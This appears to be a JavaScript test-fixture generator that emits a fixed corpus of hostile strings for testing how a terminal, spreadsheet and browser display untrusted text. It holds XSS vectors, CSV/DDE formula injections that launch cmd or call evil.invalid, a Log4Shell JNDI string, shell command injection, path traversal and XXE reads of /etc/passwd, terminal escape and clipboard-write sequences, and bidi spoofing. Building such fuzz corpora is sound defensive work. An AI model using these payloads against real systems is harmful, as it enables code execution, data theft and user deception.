// Text that attacks whoever shows it: the one source for the terminal's, the spreadsheet's and the browser's tests.
//
//   seeds by class  x  where they stand (alone, within words, twice)  ->  { id, class, text }
//
// Invariants: the same payloads in the same order every time; ids are unique and harmless; whatever a script in
// them does, it sets `window.pwned`, so that one check in a page sees all of them. Run it to get a JSON line for
// each payload.

import { fileURLToPath } from 'node:url'

const ESC = '\u001b'
const BEL = '\u0007'
const MIB = 1 << 20

const scripts = [
  '<script>window.pwned=1</script>',
  '<SCRIPT SRC=data:text/javascript,window.pwned=1></SCRIPT>',
  '<scr<script>ipt>window.pwned=1</scr</script>ipt>',
  '</script><script>window.pwned=1</script>',
  '</title><script>window.pwned=1</script>',
  '</textarea><script>window.pwned=1</script>',
  '</style><script>window.pwned=1</script>',
  '<!--<script>window.pwned=1</script>-->',
  '--><script>window.pwned=1</script>',
  ']]><script>window.pwned=1</script>',
  '<script\n>window.pwned=1</script\n>',
  '<script/x>window.pwned=1</script/x>',
  '\u0000<script>window.pwned=1</script>',
  '<\u0000script>window.pwned=1</script>',
  '＜script＞window.pwned=1＜/script＞',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '&#60;script&#62;window.pwned=1&#60;/script&#62;',
  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
  '\';window.pwned=1;//',
  '";window.pwned=1;//',
  '`;window.pwned=1;//',
  '${window.pwned=1}',
  '{{constructor.constructor("window.pwned=1")()}}',
  '#{window.pwned=1}',
  '<%= window.pwned=1 %>',
  'javascript:window.pwned=1',
  'java\tscript:window.pwned=1',
  '\u0001javascript:window.pwned=1',
  'data:text/html,<script>window.pwned=1</script>',
  'vbscript:window.pwned=1',
  '{"__proto__":{"pwned":1}}',
  '{"constructor":{"prototype":{"pwned":1}}}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
]

const tags = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'iframe', 'object data=x', 'marquee', 'a href=#', 'div style=x']
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart']
const elements = [
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=window.pwned=1>`)),
  '<a href="javascript:window.pwned=1">x</a>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="javascript:parent.pwned=1"></iframe>',
  '<object data="data:text/html,<script>parent.pwned=1</script>"></object>',
  '<embed src="javascript:window.pwned=1">',
  '<form action="javascript:window.pwned=1"><button>x</button></form>',
  '<button formaction="javascript:window.pwned=1">x</button>',
  '<base href="//evil.invalid/">',
  '<link rel=stylesheet href="data:text/css,*{display:none}">',
  '<style>*{display:none!important}</style>',
  '<style>@import "//evil.invalid/x.css";</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
  '<meta http-equiv=refresh content="0;url=//evil.invalid/">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<template><script>window.pwned=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>',
  '<plaintext>',
  '<xmp>',
  '<!--',
  '" onmouseover="window.pwned=1',
  "' onmouseover='window.pwned=1",
  '<img src="//evil.invalid/pixel.png">',
]

const vectors = [
  '<svg><script>window.pwned=1</script></svg>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<svg><set onbegin=window.pwned=1 attributename=x to=y>',
  '<svg><foreignObject><iframe onload=window.pwned=1></foreignObject></svg>',
  '<svg><a xlink:href="javascript:window.pwned=1"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.pwned=1/>#x"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"/>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
]

const finals = [...'@ABCDEFGHIJKLMPSTXZ`abcdefghilmnpqrstux']
const control = [
  ...finals.map((final) => `${ESC}[2${final}`),
  ...['[31m', '[0m', '[38;5;196m', '[38;2;255;0;0m', '[1;31;47;5m', '[?25l', '[?1049h', '[?1000h', '[>c', '[6n', '[21t', '[!p', '[;;;m', '[999999999999C', '[1;', '['].map((rest) => ESC + rest),
  ...['c', '7', '8', 'D', 'E', 'H', 'M', 'N', 'O', 'Z', '=', '>', '(B', '(0', ')A', '#8', '%G', ' F', ''].map((rest) => ESC + rest),
  `${ESC}${ESC}[31m`,
  `${ESC}[${ESC}[31m`,
  `${ESC}[3\n1m`,
  `\u009b31m`,
  `\u009b2J\u009bH`,
]

const commands = ['0;title', '1;icon', '2;title', '4;1;rgb:ff/00/00', '7;file:///etc', '8;;http://evil.invalid', '8;id=x;file:///etc/passwd', '9;said', '10;?', '11;#000000', '50;font', '52;c;cm0gLXJmIC8=', '52;c;?', '104', '133;A', '777;notify;a;b', '1337;File=inline=1:AAAA', '1337;RequestUpload=format=tgz', '']
const ends = [BEL, `${ESC}\\`, '\u009c', '']
const strings = [
  ...commands.flatMap((command) => ends.map((end) => `${ESC}]${command}${end}`)),
  ...['P', 'X', '^', '_'].flatMap((kind) => ends.map((end) => `${ESC}${kind}1;2|payload${end}`)),
  ...['\u0090', '\u0098', '\u009d', '\u009e', '\u009f'].flatMap((kind) => ends.map((end) => `${kind}1;2|payload${end}`)),
  `${ESC}]8;;http://evil.invalid${ESC}\\bank.example${ESC}]8;;${ESC}\\`,
  `${ESC}P$q"p${ESC}\\`,
  `${ESC}_Ga=T,f=100;AAAA${ESC}\\`,
  `${ESC}]52;c;${'QUFB'.repeat(100)}${BEL}`,
]

const controls = Array.from({ length: 0xa0 }, (_, code) => code)
  .filter((code) => code < 0x20 || code >= 0x7f)
  .map((code) => `a${String.fromCodePoint(code)}b`)

const between = (from, to) => Array.from({ length: to - from + 1 }, (_, at) => String.fromCodePoint(from + at))
const bidi = [
  ...[...between(0x200e, 0x200f), ...between(0x202a, 0x202e), ...between(0x2066, 0x2069), '\u061c'].map((mark) => `user${mark}nimda`),
  '\u202e\u2066// begin admins only\u2069\u2066',
  'annexe\u202egpj.exe',
  'שלום \u202dabc\u202c مرحبا',
  '\u2067\u2067\u2067\u2067\u2067\u2067deep',
]
const invisible = [
  ...[...between(0x200b, 0x200d), ...between(0x2060, 0x2064), '\ufeff', '\u00ad', '\u034f', '\u115f', '\u3164', '\u2028', '\u2029', '\ufff9', '\ufffa', '\ufffb', '\ufffc', '\uffff', '\ufdd0'].map((mark) => `pass${mark}word`),
  `e${'\u0301'.repeat(500)}`,
  '\u{e0041}\u{e0042}\u{e007f}',
  'раураl.com',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '\u{1f1e6}'.repeat(99),
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA',
]

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', '\ufeff=', '\u200b=', '\u0000=', '\u001b=', '\u202e=', ' =', '|', '%', ';=', ',=', '"=', "'="]
const formulas = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.invalid?x="&A1,"click")', 'DDE("cmd";"/C calc";"x")', 'IMPORTXML("http://evil.invalid","//a")', '2+5+cmd|\' /C notepad\'!\'A1\'', 'SUM(1,1)*cmd|\'/C calc\'!A0']
const spreadsheet = [
  ...starts.flatMap((start) => formulas.map((formula) => start + formula)),
  '"',
  '""',
  '","',
  '"\n=1+1',
  'a","=1+1',
  'a\r\n=1+1',
  ',,,,',
  ';;;;',
  'sep=;',
]

const structure = [
  '',
  ' ',
  '\n',
  '\r\n',
  '\r\nSet-Cookie: pwned=1',
  'data: x\n\nevent: record\ndata: {"message":"forged"}\n\n',
  '{"message":"forged"}\n{"message":"forged again"}',
  '\\',
  '\\n\\u0000',
  '\ud83d\ude00',
  '..%2f..%2fetc%2fpasswd',
  '../../../../etc/passwd',
  '$(touch /tmp/pwned)',
  '`touch /tmp/pwned`',
  '; touch /tmp/pwned',
  '| touch /tmp/pwned',
  '%s%n%x%d',
  '${jndi:ldap://evil.invalid/x}',
  "' OR 1=1 --",
  '* | stats count()',
  '/(a+)+$/',
  'null',
  'NaN',
  '-0',
  '1e999',
  '[]',
]

/** Too long for anything but a message or a value. */
const long = [
  'a'.repeat(MIB),
  '<b>'.repeat(MIB / 4),
  `${ESC}[31m`.repeat(MIB / 8),
  `${ESC}]0;${'t'.repeat(MIB / 2)}`,
  '\u202e'.repeat(MIB / 4),
  'line\n'.repeat(MIB / 8),
  `=${'1+'.repeat(MIB / 4)}1`,
  '漢'.repeat(MIB / 4),
  '"'.repeat(MIB / 4),
  '\u0000'.repeat(MIB / 8),
]

const classes = { script: scripts, html: elements, svg: vectors, csi: control, osc: strings, control: controls, bidi, invisible, formula: spreadsheet, structure }
const places = { alone: (text) => text, within: (text) => `before ${text} after`, twice: (text) => `${text}${text}` }

/** All of them. `text` is a string that JSON can say, whatever it holds. */
export function payloads() {
  const short = Object.entries(classes).flatMap(([name, seeds]) =>
    Object.entries(places).flatMap(([place, put]) => seeds.map((seed, at) => ({ id: `${name}-${place}-${at}`, class: name, text: put(seed) }))),
  )
  return [...short, ...long.map((text, at) => ({ id: `long-alone-${at}`, class: 'long', text }))]
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  for (const payload of payloads()) console.log(JSON.stringify(payload))
}
